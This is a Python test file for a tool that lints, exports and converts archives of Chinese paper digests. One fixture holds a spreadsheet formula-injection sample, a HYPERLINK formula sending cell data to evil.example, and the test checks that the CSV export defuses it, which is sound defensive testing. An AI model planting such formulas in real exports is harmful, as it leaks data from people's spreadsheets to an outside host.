"""The ``digest`` command, as a user runs it from the repository root."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from pydantic import TypeAdapter

from digest_archive.model import Digest, Entry
from support.commands import run_digest as run
from support.seeds import SEED_ENTRIES, parse_snippet, read_seed

TEXT_LINE = re.compile(r"^(?P<path>[^:]+):(?P<line>\d+):(?P<column>\d+): (?P<code>DA\d{3}) (?P<message>.+)$")

ENTRY_FIELDS = {
    "number",
    "section",
    "category",
    "highlighted",
    "title",
    "title_zh",
    "authors",
    "authors_truncated",
    "affiliations",
    "year",
    "summary_zh",
    "summary_parts",
    "abstract_en",
    "links",
    "figures",
    "line",
}


@pytest.fixture(autouse=True)
def _from_repo_root(in_repo_root):
    """Run every command from the repository root, as the docs tell users to."""


@pytest.fixture
def broken_file(tmp_path) -> Path:
    """A copy of 2020-12-16 with entry 2's author line deleted."""
    lines = read_seed("2020-12-16").split("\n")
    del lines[9]
    path = tmp_path / "raw" / "2020" / "2020-12-16.txt"
    path.parent.mkdir(parents=True)
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


# --- lint ----------------------------------------------------------------------------


def test_lint_raw_passes_with_warnings(capsys):
    status, out, err = run(capsys, "lint", "raw")
    assert status == 0
    lines = out.splitlines()
    assert len(lines) == 11
    assert "raw/2020/2020-12-16.txt:9:7: DA201 markup artifact '** **'" in lines
    for line in lines:
        match = TEXT_LINE.match(line)
        assert match, line
        assert match["path"].startswith("raw/")
        assert (Path(match["path"])).is_file()
    assert err.strip() == "Found 0 errors and 11 warnings in 5 files."


def test_lint_reports_paths_as_given(capsys, repo_root):
    status, out, _ = run(capsys, "lint", "./raw/2020/", "raw/2021/2021-04-26.txt")
    assert status == 0
    paths = {TEXT_LINE.match(line)["path"] for line in out.splitlines()}
    assert paths == {"./raw/2020/2020-11-01.txt", "./raw/2020/2020-12-16.txt", "raw/2021/2021-04-26.txt"}


def test_lint_a_clean_file(capsys):
    status, out, err = run(capsys, "lint", "raw/2022/2022-10-15.txt")
    assert (status, out) == (0, "")
    assert err.strip() == "All checks passed (1 file)."


def test_lint_broken_file_exits_1(capsys, broken_file):
    status, out, err = run(capsys, "lint", str(broken_file))
    assert status == 1
    assert f"{broken_file}:9:1: DA103 entry 2 has no authors" in out.splitlines()
    assert err.startswith("Found 1 error and ")


def test_lint_unreadable_file_exits_1(capsys, tmp_path):
    path = tmp_path / "2020-12-16.txt"
    path.write_bytes("1、[LG] 神经力学\n".encode("gb18030"))
    status, out, _ = run(capsys, "lint", str(path))
    assert status == 1
    assert out.startswith(f"{path}:1:2: DA002 ")
    assert "GB18030" in out


def test_lint_select_and_ignore(capsys):
    status, out, _ = run(capsys, "lint", "raw", "--select", "da202,DA203")
    assert status == 0
    assert [TEXT_LINE.match(line)["code"] for line in out.splitlines()] == ["DA203", "DA202"]
    status, out, _ = run(capsys, "lint", "raw", "--ignore", "DA2")
    assert (status, out) == (0, "")


def test_lint_warnings_do_not_fail_but_select_can_hide_errors(capsys, broken_file):
    status, _, _ = run(capsys, "lint", str(broken_file), "--select", "DA2")
    assert status == 0


@pytest.mark.parametrize(
    "argv",
    [
        pytest.param([], id="no-arguments"),
        pytest.param(["lint"], id="lint-without-path"),
        pytest.param(["lint", "raw", "--format", "xml"], id="unknown-format"),
        pytest.param(["lint", "no/such/dir"], id="nonexistent-path"),
        pytest.param(["lint", "raw", "--select", "XX9"], id="unknown-select-code"),
        pytest.param(["lint", "raw", "--ignore", "DA999"], id="unknown-ignore-code"),
        pytest.param(["export", "nope.txt"], id="export-nonexistent"),
        pytest.param(["rules", "DA999"], id="unknown-rule"),
        pytest.param(["frobnicate"], id="unknown-command"),
    ],
)
def test_usage_errors_exit_2(capsys, argv):
    status, out, err = run(capsys, *argv)
    assert status == 2
    assert out == ""
    assert "error" in err


def test_nonexistent_path_message(capsys):
    _, _, err = run(capsys, "lint", "no/such/dir")
    assert err.strip() == "digest: error: no such file or directory: no/such/dir"


def test_lint_json_format(capsys):
    status, out, err = run(capsys, "lint", "raw", "--format", "json")
    assert status == 0
    assert err == ""
    payload = json.loads(out)
    assert isinstance(payload, list) and len(payload) == 11
    for item in payload:
        assert {"path", "line", "column", "code", "severity", "message"} <= set(item)
        assert isinstance(item["line"], int) and isinstance(item["column"], int)
        assert item["severity"] in ("error", "warning")
    assert {
        "path": "raw/2021/2021-04-26.txt",
        "line": 51,
        "column": 1,
        "code": "DA202",
        "severity": "warning",
    }.items() <= next(item for item in payload if item["code"] == "DA202").items()


def test_lint_json_of_a_clean_file_is_an_empty_list(capsys):
    _, out, _ = run(capsys, "lint", "raw/2022/2022-10-15.txt", "--format", "json")
    assert json.loads(out) == []


def test_lint_github_format(capsys, broken_file):
    status, out, _ = run(capsys, "lint", "raw", "--format", "github")
    assert status == 0
    lines = out.splitlines()
    assert len(lines) == 11
    assert all(line.startswith("::warning file=raw/") for line in lines)
    assert "::warning file=raw/2020/2020-12-16.txt,line=9,col=7,title=DA201 markup-artifact::" in out

    status, out, _ = run(capsys, "lint", str(broken_file), "--format", "github")
    assert status == 1
    errors = [line for line in out.splitlines() if line.startswith("::error file=")]
    assert len(errors) == 1
    assert ",line=9,col=1,title=DA103 missing-authors::entry 2 has no authors" in errors[0]


def test_github_format_escapes_properties(capsys, tmp_path):
    path = tmp_path / "a,b:c" / "2020-12-16.txt"
    path.parent.mkdir()
    path.write_text("junk\n", encoding="utf-8")
    _, out, _ = run(capsys, "lint", str(path), "--format", "github")
    first = out.splitlines()[0]
    assert first.startswith("::error file=")
    assert "a%2Cb%3Ac" in first
    assert "a,b:c" not in first


def test_lint_as_a_real_process(repo_root):
    """The installed entry point, run as a user would (venv-agnostic: python -m)."""
    result = subprocess.run(
        [sys.executable, "-m", "digest_archive", "lint", "raw"],
        cwd=repo_root,
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("raw/2020/2020-11-01.txt:14:177: DA201 ")
    assert "raw/2020/2020-12-16.txt:9:7: DA201 markup artifact '** **'\n" in result.stdout
    assert "Found 0 errors and 11 warnings in 5 files." in result.stderr


def test_usage_error_as_a_real_process(repo_root, tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "digest_archive", "lint", str(tmp_path / "missing")],
        cwd=repo_root,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 2
    assert "no such file or directory" in result.stderr


def test_version(capsys):
    status, out, _ = run(capsys, "--version")
    assert status == 0
    assert out.startswith("digest ")


# --- export and schema --------------------------------------------------------------------


@pytest.fixture
def export(capsys) -> list[dict]:
    status, out, _ = run(capsys, "export", "raw")
    assert status == 0
    return json.loads(out)


def test_export_holds_every_digest_and_entry(export):
    assert [digest["date"] for digest in export] == sorted(SEED_ENTRIES)
    assert [len(digest["entries"]) for digest in export] == [SEED_ENTRIES[d] for d in sorted(SEED_ENTRIES)]
    assert sum(len(digest["entries"]) for digest in export) == 45


def test_export_digest_keys(export):
    exported = {name for name, field in Digest.model_fields.items() if not field.exclude}
    for digest in export:
        assert {"date", "source", "entries"} <= set(digest)
        assert set(digest) == exported
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", digest["date"])
        assert digest["source"] == f"raw/{digest['date'][:4]}/{digest['date']}.txt"


def test_export_entry_fields(export):
    exported = {name for name, field in Entry.model_fields.items() if not field.exclude}
    assert exported >= ENTRY_FIELDS
    for digest in export:
        for entry in digest["entries"]:
            assert set(entry) == exported
            assert set(entry) >= ENTRY_FIELDS
            assert entry["section"] in ("featured", "more")
            assert "*" not in entry["title"]


def test_export_source_is_the_path_as_given(capsys):
    _, out, _ = run(capsys, "export", "./raw/2022/2022-10-15.txt")
    (digest,) = json.loads(out)
    assert digest["source"] == "./raw/2022/2022-10-15.txt"
    assert digest["date"] == "2022-10-15"


def test_export_to_a_file(capsys, tmp_path, export):
    target = tmp_path / "digests.json"
    status, out, _ = run(capsys, "export", "raw", "-o", str(target))
    assert (status, out) == (0, "")
    assert json.loads(target.read_text(encoding="utf-8")) == export


def test_export_keeps_chinese_readable(capsys):
    _, out, _ = run(capsys, "export", "raw/2022/2022-10-15.txt")
    assert "转自爱可可爱生活" in out


def test_export_of_an_unreadable_file_exits_1(capsys, tmp_path):
    (tmp_path / "2020-12-16.txt").write_bytes(b"\x00\x01")
    status, out, err = run(capsys, "export", str(tmp_path))
    assert status == 1
    assert json.loads(out) == []
    assert "DA001" in err


# A digest as a stranger's pull request could write it: fields that spreadsheets run as formulas.
HOSTILE_DIGEST = """LG - 机器学习 (*表示值得重点关注)

    1、[LG] =HYPERLINK("https://evil.example/?"&A1,"click")
    D Kunin, S Ganguli
    [=1+2 & -Evil University]
    @恶意摘要。 Abstract text. https://weibo.com/1402400261/JyFsjATR5
    f01.png.jpg
"""


def test_export_csv_of_a_hostile_digest_starts_no_formula(capsys, tmp_path):
    path = tmp_path / "raw" / "2020" / "2020-12-16.txt"
    path.parent.mkdir(parents=True)
    path.write_text(HOSTILE_DIGEST, encoding="utf-8")
    (entry,) = parse_snippet(HOSTILE_DIGEST).entries
    assert entry.title.startswith("=")
    assert entry.affiliations == ["=1+2", "-Evil University"]
    assert entry.summary_zh == "@恶意摘要。"

    status, out, err = run(capsys, "export", "--format", "csv", str(path))
    assert (status, err) == (0, "")
    (row,) = csv.DictReader(io.StringIO(out, newline=""))
    assert row["title"] == "'" + entry.title
    assert row["affiliations"] == "'=1+2; -Evil University"
    assert row["summary_zh"] == "'@恶意摘要。"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row.values())

    # The JSON export is the exact data.
    status, out, _ = run(capsys, "export", str(path))
    assert status == 0
    (exported,) = json.loads(out)[0]["entries"]
    assert exported["title"] == entry.title
    assert exported["affiliations"] == entry.affiliations
    assert exported["summary_zh"] == entry.summary_zh


@pytest.fixture
def schema(capsys) -> dict:
    status, out, _ = run(capsys, "schema")
    assert status == 0
    return json.loads(out)


def test_schema_is_json_schema(schema):
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["type"] == "array"
    definitions = schema["$defs"]
    assert set(definitions["Entry"]["properties"]) >= ENTRY_FIELDS
    assert {"date", "source", "entries"} <= set(definitions["Digest"]["properties"])


def test_schema_validates_the_export(schema, export):
    try:
        import jsonschema
    except ImportError:
        jsonschema = None
    if jsonschema is not None:
        jsonschema.validate(export, schema)
    digests = TypeAdapter(list[Digest]).validate_python(export)
    assert TypeAdapter(list[Digest]).dump_python(digests, mode="json") == export


# --- convert ---------------------------------------------------------------------------------


def _tree(root: Path) -> dict[str, bytes]:
    files = sorted(path for path in root.rglob("*") if path.is_file())
    return {str(path.relative_to(root)): path.read_bytes() for path in files}


DIGEST_STEMS = ["2020/2020-11-01", "2020/2020-12-16", "2021/2021-04-26", "2021/2021-07-19", "2022/2022-10-15"]


@pytest.mark.parametrize(
    ("language", "heading"), [("zh_CN", "# 2022年10月15日"), ("en", "# 15 October 2022")]
)
def test_convert_writes_the_pages_in_the_language_asked_for(capsys, tmp_path, language, heading):
    status, _, _ = run(capsys, "convert", "raw", "--out", str(tmp_path), "--language", language)
    assert status == 0
    assert heading in (tmp_path / "2022" / "2022-10-15.md").read_text(encoding="utf-8").splitlines()


def test_convert_writes_the_pages(capsys, tmp_path):
    status, out, _ = run(capsys, "convert", "raw", "--out", str(tmp_path))
    assert status == 0
    tree = set(_tree(tmp_path))
    names = {page for page in tree if page.split("/")[0] in {"authors", "affiliations", "categories"}}
    figures = {page for page in tree if page.startswith("statistics/")}
    assert out.strip() == (
        f"{9 + len(names)} pages written, 0 unchanged, 0 removed in {tmp_path}; 9 statistics files written"
    )
    # Four plots, each for a wide and a narrow screen, and what they show.
    assert figures == {
        "statistics/figures.json",
        *(
            f"statistics/{plot}-{width}.svg"
            for plot in ("categories", "highlighted", "authors", "affiliations")
            for width in ("wide", "narrow")
        ),
    }
    # Authors and affiliations on a few pages each, with their index; a
    # category has a page, and a page for each month it has papers in.
    assert {"authors/index.md", "affiliations/index.md"} < names
    assert not any(page.startswith(("authors/", "affiliations/")) and page.count("/") > 1 for page in names)
    assert {"categories/index.md", "categories/LG.md", "categories/LG/2020-12.md"} < names
    assert tree - names - figures == {
        ".digest-pages.json",
        # Each paper's profile, and each day's related papers, for the next run.
        ".digest-related.json",
        "index.md",
        "2020/index.md",
        "2020/2020-11-01.md",
        "2020/2020-12-16.md",
        "2021/index.md",
        "2021/2021-04-26.md",
        "2021/2021-07-19.md",
        "2022/index.md",
        "2022/2022-10-15.md",
        # Each digest's papers, and each year's, to download.
        *(f"{stem}{suffix}" for stem in DIGEST_STEMS for suffix in (".bib", ".ris")),
        *(f"{year}/{year}{suffix}" for year in (2020, 2021, 2022) for suffix in (".bib", ".ris")),
        # The data: each digest, each year's, and the schema they follow.
        *(f"{stem}.json" for stem in DIGEST_STEMS),
        *(f"{year}/{year}.jsonl.gz" for year in (2020, 2021, 2022)),
        "schema-1.json",
        "schema-2.json",
    }
    index = (tmp_path / "index.md").read_text(encoding="utf-8")
    # In the archive's language by default, Chinese.
    assert "45 篇论文" in index
    assert "2020/2020-12-16.md" in index
    assert "# 2020年12月16日" in (tmp_path / "2020" / "2020-12-16.md").read_text(encoding="utf-8")


def test_convert_twice_rewrites_nothing(capsys, tmp_path):
    run(capsys, "convert", "raw", "--out", str(tmp_path))
    before = {path: path.stat().st_mtime_ns for path in tmp_path.rglob("*")}
    contents = _tree(tmp_path)
    status, out, _ = run(capsys, "convert", "raw", "--out", str(tmp_path))
    assert status == 0
    assert out.startswith("0 pages written, ")
    assert " 0 removed" in out
    assert out.endswith("; 0 statistics files written\n")
    assert {path: path.stat().st_mtime_ns for path in tmp_path.rglob("*")} == before
    assert _tree(tmp_path) == contents


def test_convert_removes_stale_pages(capsys, tmp_path):
    stale = tmp_path / "1999" / "x.md"
    stale.parent.mkdir()
    stale.write_text("old", encoding="utf-8")
    keep = tmp_path / "notes.txt"
    keep.write_text("not a page", encoding="utf-8")
    status, out, _ = run(capsys, "convert", "raw", "--out", str(tmp_path))
    assert status == 0
    assert "1 removed" in out
    assert not stale.exists()
    assert keep.exists()


def test_convert_rewrites_only_a_changed_digest_and_its_neighbours(capsys, tmp_path):
    raw = tmp_path / "raw"
    pages = tmp_path / "pages"
    for date in SEED_ENTRIES:
        target = raw / date[:4] / f"{date}.txt"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(read_seed(date), encoding="utf-8")
    run(capsys, "convert", str(raw), "--out", str(pages))
    changed = raw / "2021" / "2021-04-26.txt"
    text = changed.read_text(encoding="utf-8")
    changed.write_text(text.replace("Metadata Normalization", "Meta Norm"), encoding="utf-8")
    before = _tree(pages)
    _, out, _ = run(capsys, "convert", str(raw), "--out", str(pages))
    after = _tree(pages)
    rewritten = {name for name in after if after[name] != before.get(name)}
    # The title changed: so do the pages that list the paper by its title.
    # So do its papers' files and its data, and its year's, joined from its
    # days' files; no other year's.
    stems = ("2021/2021-04-26", "2021/2021")
    downloads = {f"{stem}{suffix}" for stem in stems for suffix in (".bib", ".ris")}
    downloads |= {"2021/2021-04-26.json", "2021/2021.jsonl.gz"}
    assert downloads <= rewritten
    assert not {name for name in rewritten if name.startswith(("2020/", "2022/2022."))}
    for name in downloads:
        data = gzip.decompress(after[name]) if name.endswith(".gz") else after[name]
        assert "Meta Norm" in data.decode("utf-8")
    listing = rewritten - {"2021/2021-04-26.md", ".digest-pages.json", ".digest-related.json"} - downloads
    # Its category's month, and the later digest whose card names the paper
    # among its related earlier papers; its names' own pages are the builder's.
    assert listing == {"categories/LG/2021-04.md", "2022/2022-10-15.md"}
    for page in listing:
        assert "Meta Norm" in after[page].decode("utf-8")
    pages_before = [name for name in before if name.endswith(".md")]
    assert out.startswith(
        f"{len(listing) + 1} pages written, {len(pages_before) - len(listing) - 1} unchanged"
    )
    assert out.endswith("; 0 statistics files written\n")


def test_convert_refuses_undated_files(capsys, tmp_path):
    raw = tmp_path / "raw"
    raw.mkdir()
    (raw / "notes.txt").write_text(read_seed("2020-12-16"), encoding="utf-8")
    status, _, err = run(capsys, "convert", str(raw), "--out", str(tmp_path / "out"))
    assert status == 1
    assert "notes.txt:1:1: file name is not YYYY-MM-DD.txt (the digest's date); not converted" in err


# --- rules ------------------------------------------------------------------------------------


def test_rules_lists_every_rule(capsys):
    from digest_archive.lint import REGISTRY

    status, out, _ = run(capsys, "rules")
    assert status == 0
    listed = [line.split()[0] for line in out.splitlines()]
    assert listed == sorted(REGISTRY)  # by code, as the reference page lists them


def test_rules_explains_one_with_its_examples(capsys):
    status, out, _ = run(capsys, "rules", "da101")
    assert status == 0
    assert out.startswith("DA101 unparsed-line (error)\n\nA line fits no field of any entry.\n")
    assert "Bad (raw/2020/2020-12-16.txt):" in out
    assert "Good (raw/2020/2020-12-16.txt):" in out
    bad = out.split("Bad (raw/2020/2020-12-16.txt):", 1)[1].split("Good (", 1)[0]
    assert "    1、[LG] Neural Mechanics\n" in bad
    assert "    see the paper for details\n" in bad
